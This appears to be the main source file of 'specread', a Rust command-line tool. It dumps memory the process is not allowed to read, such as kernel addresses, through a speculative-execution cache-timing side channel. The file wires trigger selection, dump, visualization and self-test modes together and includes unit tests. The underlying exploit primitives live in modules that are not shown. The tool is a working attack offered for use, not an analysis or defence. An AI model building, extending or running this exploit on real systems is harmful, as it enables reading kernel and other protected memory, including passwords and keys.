/*!
 * Read memory the process is not allowed to read, one byte at a time,
 * through a speculative-execution cache timing side channel.
 *
 * ```text
 * dump -> Session::read_byte -> timing::run_once -> channel::trial
 *                                                    |-> CacheProbe::evict_all
 *                                                    |-> SpeculationTrigger::fire
 *                                                    '-> CacheProbe::time_access x 256
 * ```
 *
 * The trigger is picked at build time: fault-recover by default,
 * guarded-poison with `--features guarded-poison`.
 */

#[cfg(not(all(target_arch = "x86_64", target_os = "linux")))]
compile_error!("specread needs rdtsc/clflush and Linux signal contexts (x86_64 Linux only)");

pub mod cache;
pub mod calibrate;
pub mod channel;
pub mod config;
pub mod dump;
pub mod error;
pub mod histogram;
pub mod mapping;
pub mod plot;
pub mod selftest;
pub mod session;
pub mod timer;
pub mod timing;
pub mod triggers;

#[cfg(test)]
pub mod sim;

use anyhow::{bail, Context};
use channel::HardwareChannel;
use clap::Parser;
use config::Tuning;
use error::Error;
use session::Session;
use std::io;
use tracing::info;
use tracing_subscriber::EnvFilter;

#[cfg(not(feature = "guarded-poison"))]
type ActiveTrigger = triggers::FaultRecoverTrigger;

#[cfg(feature = "guarded-poison")]
type ActiveTrigger = triggers::GuardedPoisonTrigger;

/// Dump memory through a speculative cache-timing side channel
#[derive(Parser, Debug)]
#[command(name = "specread")]
#[command(version)]
struct Args {
    /// Target address, e.g. 0xffff888000000000
    #[arg(value_parser = parse_address, required_unless_present = "selftest")]
    address: Option<usize>,

    /// Number of bytes to dump (rounded up to 16-byte rows)
    #[arg(short, long, default_value_t = dump::DEFAULT_LENGTH)]
    length: usize,

    /// Trials per timing run
    #[arg(long, default_value_t = config::ITERATIONS)]
    iterations: usize,

    /// Timing runs after the first before a byte is reported as ??
    #[arg(long, default_value_t = config::MAX_RETRIES)]
    max_retries: usize,

    /// Accept a byte once its uncertainty drops to this value
    #[arg(long, default_value_t = config::MAX_UNCERTAINTY)]
    max_uncertainty: f64,

    /// Time probe regions in a random order every trial
    #[arg(long)]
    shuffle: bool,

    /// Stream latency histograms of the address to gnuplot instead of dumping
    #[arg(long, conflicts_with = "selftest")]
    visualize: bool,

    /// Report hit/miss latencies and decode a known readable buffer
    #[arg(long)]
    selftest: bool,
}

impl Args {
    fn tuning(&self) -> Tuning {
        Tuning {
            iterations: self.iterations,
            max_retries: self.max_retries,
            max_uncertainty: self.max_uncertainty,
            shuffle: self.shuffle,
            ..Tuning::default()
        }
    }
}

/**
 * Parse a pointer the way `%p` prints one: hex, with or without `0x`.
 */
pub fn parse_address(text: &str) -> Result<usize, Error> {
    let trimmed = text.trim();
    let digits = trimmed
        .strip_prefix("0x")
        .or_else(|| trimmed.strip_prefix("0X"))
        .unwrap_or(trimmed);
    if digits.is_empty() {
        return Err(Error::InvalidAddress(text.to_string()));
    }
    usize::from_str_radix(digits, 16).map_err(|_| Error::InvalidAddress(text.to_string()))
}

fn init_logging() {
    tracing_subscriber::fmt()
        .with_env_filter(EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")))
        .with_writer(io::stderr)
        .with_target(false)
        .init();
}

fn run(args: Args) -> anyhow::Result<()> {
    let tuning = args.tuning();
    tuning.validate().context("bad tuning parameters")?;

    if args.selftest {
        selftest::report_platform_info();
        if !selftest::check_known_bytes::<ActiveTrigger>(tuning)? {
            bail!("self test failed to decode known bytes");
        }
        return Ok(());
    }

    let address = args.address.context("no target address")?;
    let channel = HardwareChannel::<ActiveTrigger>::open().context("failed to open the probe channel")?;
    let mut session = Session::new(channel, tuning)?;

    if args.visualize {
        plot::stream(&mut session, address).context("visualization stopped")?;
        return Ok(());
    }

    info!("Dumping {} bytes from 0x{:X}", args.length, address);
    let stdout = io::stdout();
    dump::dump(&mut session, address, args.length, &mut stdout.lock()).context("failed to write dump")?;
    Ok(())
}

pub fn main() {
    init_logging();
    let args = Args::parse();
    if let Err(err) = run(args) {
        eprintln!("Error: {:#}", err);
        std::process::exit(1);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_pointer_formats() {
        assert_eq!(parse_address("0xffff888000000000").unwrap(), 0xffff_8880_0000_0000);
        assert_eq!(parse_address("0X1000").unwrap(), 0x1000);
        assert_eq!(parse_address("deadbeef").unwrap(), 0xdead_beef);
        assert_eq!(parse_address(" 0x10 ").unwrap(), 0x10);
    }

    #[test]
    fn rejects_non_pointers() {
        for bad in ["", "0x", "xyz", "0x1g", "-0x10", "0x1ffffffffffffffff"] {
            assert!(matches!(parse_address(bad), Err(Error::InvalidAddress(_))), "accepted {:?}", bad);
        }
    }

    #[test]
    fn cli_defaults_match_calibrated_tuning() {
        let args = Args::parse_from(["specread", "0xffff888000000000"]);
        assert_eq!(args.address, Some(0xffff_8880_0000_0000));
        assert_eq!(args.length, 4096);
        assert_eq!(args.tuning(), Tuning::default());
    }

    #[test]
    fn cli_overrides_tuning() {
        let args = Args::parse_from(["specread", "--iterations", "100", "--shuffle", "--max-retries", "7", "0x1000"]);
        let tuning = args.tuning();
        assert_eq!(tuning.iterations, 100);
        assert_eq!(tuning.max_retries, 7);
        assert!(tuning.shuffle);
    }

    #[test]
    fn selftest_needs_no_address() {
        let args = Args::parse_from(["specread", "--selftest"]);
        assert!(args.selftest);
        assert_eq!(args.address, None);
    }

    #[test]
    fn address_is_required_for_a_dump() {
        assert!(Args::try_parse_from(["specread"]).is_err());
        assert!(Args::try_parse_from(["specread", "nothex"]).is_err());
    }
}
